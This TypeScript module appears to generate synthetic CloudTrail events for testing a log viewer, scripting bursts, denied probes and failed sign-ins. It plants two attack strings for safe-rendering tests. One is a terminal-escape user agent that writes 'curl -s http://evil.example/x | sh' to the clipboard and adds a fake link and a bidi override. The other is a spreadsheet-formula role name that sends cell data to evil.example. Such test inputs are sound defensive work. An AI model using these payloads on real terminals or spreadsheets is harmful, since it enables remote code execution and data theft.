import { ACTORS, AGENTS, type Actor, type SessionIdentity } from './identities.js';
import type { Rng } from './prng.js';
import { apiCall, consoleLogin, kmsRotation, type CallOptions, type TimedRecord } from './records.js';
import { TEMPLATES, roleCreation, type ApiName } from './templates.js';
import { at, MINUTE } from './time.js';
import type { Session } from './traffic.js';
import { DEV, PROD } from './world.js';

/**
 * Fixed stories laid over the ordinary traffic, at fixed times whatever the seed:
 * the bursts behind the Insights, AccessDenied bursts, failed sign-ins, and the two
 * attack strings trailtop must render and export safely.
 */

/** eventID of the GetCallerIdentity whose userAgent carries terminal escape sequences. */
export const ESCAPE_USER_AGENT_EVENT_ID = 'e5ca9e00-1b5b-4d32-8a07-000000000001';
/** eventID of the CreateRole whose role name is a spreadsheet formula. */
export const FORMULA_RESOURCE_EVENT_ID = 'f0a1a000-3d48-4c59-9e50-000000000002';

/** ESC[2J clear screen, ESC[H home, an OSC 52 clipboard write, an OSC 8 hyperlink, then a U+202E bidi override. */
export const ESCAPE_USER_AGENT = 'aws-cli/2.15.10 \u001b[2J\u001b[H'
  + `\u001b]52;c;${Buffer.from('curl -s http://evil.example/x | sh').toString('base64')}\u0007`
  + '\u001b]8;;http://evil.example/\u0007Click here\u001b]8;;\u0007 \u202Egpj.exe';

export const FORMULA_ROLE_NAME = '=HYPERLINK("evil.example?q="&A1,"x")';

/** When the escape-sequence and formula events happen, for readers that want to find them by time. */
export const ESCAPE_USER_AGENT_TIME = at(0, 21, 38, 12);
export const FORMULA_RESOURCE_TIME = at(1, 10, 15, 3);

function single(start: number, build: (rng: Rng) => TimedRecord): Session {
  return { start, materialize: (rng) => [build(rng)] };
}

function call(actor: Actor, api: ApiName, region: string, start: number, options: CallOptions = {}): Session {
  return single(start, (rng) => apiCall(TEMPLATES[api], actor.account, region, actor.startSession(rng, start), start, rng, options));
}

/** `perMinute(minute, rng)` calls of `api` in each minute of [start, end), all by one session. */
function burst(
  actor: Actor, api: ApiName, region: string, start: number, end: number,
  perMinute: (minute: number, rng: Rng) => number,
  options: (rng: Rng) => CallOptions,
  extra?: (identity: SessionIdentity, rng: Rng, minuteStart: number) => TimedRecord[],
): Session {
  return {
    start,
    materialize(rng) {
      const identity = actor.startSession(rng, start);
      const out: TimedRecord[] = [];
      for (let m = 0; start + m * MINUTE < end; m++) {
        const minuteStart = start + m * MINUTE;
        const n = perMinute(m, rng);
        for (let i = 0; i < n; i++) {
          const t = minuteStart + rng.int(0, 59) * 1000;
          out.push(apiCall(TEMPLATES[api], actor.account, region, identity, t, rng, options(rng)));
        }
        if (extra) out.push(...extra(identity, rng, minuteStart));
      }
      return out;
    },
  };
}

const INSTANCE_LIMIT = {
  code: 'Client.InstanceLimitExceeded',
  message: 'You have requested more instances (21) than your current instance limit of 20 allows for the specified instance type. Please visit http://aws.amazon.com/contact-us/ec2-request to request an adjustment to this limit.',
};

/** The spans of the Insights whose bursts are on disk; insights.ts pairs them with their records. */
export const CALL_RATE_SPAN = { start: at(1, 14, 10), end: at(1, 14, 27) };
export const ERROR_RATE_SPAN = { start: at(0, 21, 40), end: at(0, 21, 48) };
export const ONGOING_START = at(1, 23, 44);
export const ONGOING_BURST_END = at(2, 0, 0);

export function scenarioSessions(): Session[] {
  const sessions: Session[] = [];

  // Low but non-zero RunInstances baseline in prod eu-west-1 before the call-rate burst.
  for (const t of [at(0, 9, 12, 5), at(0, 11, 40, 31), at(0, 15, 5, 44), at(0, 20, 31, 2), at(1, 8, 47, 19), at(1, 12, 2, 50)]) {
    sessions.push(call(ACTORS.aliceCli, 'RunInstances', 'eu-west-1', t));
  }
  // ApiCallRateInsight: a CI job launching instances in a loop, some hitting the instance limit.
  sessions.push(burst(
    ACTORS.prodCi, 'RunInstances', 'eu-west-1', CALL_RATE_SPAN.start, CALL_RATE_SPAN.end,
    (m, rng) => (m === 0 ? 14 : m > 13 ? rng.int(4, 6) : rng.int(8, 12)),
    (rng) => ({ userAgent: AGENTS.terraform, ...(rng.chance(0.15) ? { error: INSTANCE_LIMIT } : {}) }),
  ));

  // A leaked key probing the dev account: first the escape-sequence user agent, then an AccessDenied burst.
  sessions.push(call(ACTORS.leakedKey, 'GetCallerIdentity', 'us-east-1', ESCAPE_USER_AGENT_TIME, {
    eventId: ESCAPE_USER_AGENT_EVENT_ID, userAgent: ESCAPE_USER_AGENT,
  }));
  // Two earlier denied ListBuckets give the error-rate Insight a non-zero baseline.
  sessions.push(call(ACTORS.buildBot, 'ListBuckets', 'us-east-1', at(0, 3, 15, 9), { error: 'deny' }));
  sessions.push(call(ACTORS.buildBot, 'ListBuckets', 'us-east-1', at(0, 11, 50, 40), { error: 'deny' }));
  const probes: ApiName[] = ['ListUsers', 'ListRoles', 'DescribeInstances', 'ListFunctions', 'GetBucketAcl'];
  sessions.push(burst(
    ACTORS.leakedKey, 'ListBuckets', 'us-east-1', ERROR_RATE_SPAN.start, ERROR_RATE_SPAN.end,
    (m, rng) => (m === 0 ? 7 : rng.int(4, 8)),
    () => ({ error: 'deny' }),
    (identity, rng, minuteStart) => [apiCall(TEMPLATES[rng.pick(probes)], DEV, 'us-east-1', identity, minuteStart + rng.int(0, 59) * 1000, rng, { error: 'deny' })],
  ));

  // bob, without MFA, trying to escalate: an AccessDenied burst on IAM writes.
  sessions.push(burst(
    ACTORS.bob, 'CreateUser', 'us-east-1', at(1, 16, 20), at(1, 16, 24),
    (_m, rng) => rng.int(2, 3), () => ({ error: 'deny' }),
    (identity, rng, minuteStart) => [
      apiCall(TEMPLATES.CreateAccessKey, PROD, 'us-east-1', identity, minuteStart + rng.int(0, 59) * 1000, rng, { error: 'deny' }),
      apiCall(TEMPLATES.AttachRolePolicy, PROD, 'us-east-1', identity, minuteStart + rng.int(0, 59) * 1000, rng, { error: 'deny' }),
    ],
  ));

  // Failed sign-ins against prod, one with a mistyped user name.
  sessions.push({
    start: at(0, 2, 13, 4),
    materialize(rng) {
      const identity = ACTORS.bob.startSession(rng, at(0, 2, 13, 4));
      const attacker = { ...identity, sourceIp: '203.0.113.99' };
      return [0, 9, 17, 31].map((s, i) => consoleLogin(PROD, attacker, at(0, 2, 13, 4 + s), rng, { success: false, mfaUsed: false, hideName: i === 2 }));
    },
  });

  // ApiCallRateInsight still ongoing at the end of the samples: security-group rules opened in a loop.
  sessions.push(burst(
    ACTORS.carolCli, 'AuthorizeSecurityGroupIngress', 'us-west-2', ONGOING_START, ONGOING_BURST_END,
    (m, rng) => (m === 0 ? 9 : rng.int(5, 8)), () => ({ userAgent: AGENTS.cli }),
  ));

  // The role whose name is a spreadsheet formula.
  sessions.push(single(FORMULA_RESOURCE_TIME, (rng) => {
    const identity = ACTORS.buildBot.startSession(rng, FORMULA_RESOURCE_TIME);
    const body = roleCreation({ rng, world: DEV, region: 'us-east-1', identity, timeMs: FORMULA_RESOURCE_TIME }, FORMULA_ROLE_NAME);
    return apiCall(TEMPLATES.CreateRole, DEV, 'us-east-1', identity, FORMULA_RESOURCE_TIME, rng, { eventId: FORMULA_RESOURCE_EVENT_ID, body });
  }));

  // Every kind of caller at least once, whatever the seed and --events.
  sessions.push(call(ACTORS.idcUser, 'ListAccounts', 'us-east-1', at(0, 8, 31, 0)));
  sessions.push(call(ACTORS.partner, 'GetObject', 'eu-west-1', at(0, 13, 5, 10)));
  sessions.push(call(ACTORS.lambdaService, 'AssumeRole', 'us-east-1', at(0, 7, 0, 2)));
  sessions.push({
    start: at(1, 9, 2, 0),
    materialize(rng) {
      const identity = ACTORS.prodRoot.startSession(rng, at(1, 9, 2, 0));
      return [
        consoleLogin(PROD, identity, at(1, 9, 2, 0), rng, { success: true, mfaUsed: true }),
        apiCall(TEMPLATES.ListUsers, PROD, 'us-east-1', identity, at(1, 9, 2, 41), rng),
      ];
    },
  });
  sessions.push(single(at(0, 10, 4, 9), (rng) => consoleLogin(PROD, ACTORS.bob.startSession(rng, at(0, 10, 4, 9)), at(0, 10, 4, 9), rng, { success: true, mfaUsed: false })));

  // KMS key rotations: AwsServiceEvents whose userIdentity has no type.
  sessions.push(single(at(0, 4, 0, 7), (rng) => kmsRotation(PROD, 'us-east-1', at(0, 4, 0, 7), rng)));
  sessions.push(single(at(1, 4, 0, 11), (rng) => kmsRotation(DEV, 'eu-west-1', at(1, 4, 0, 11), rng)));
  return sessions;
}
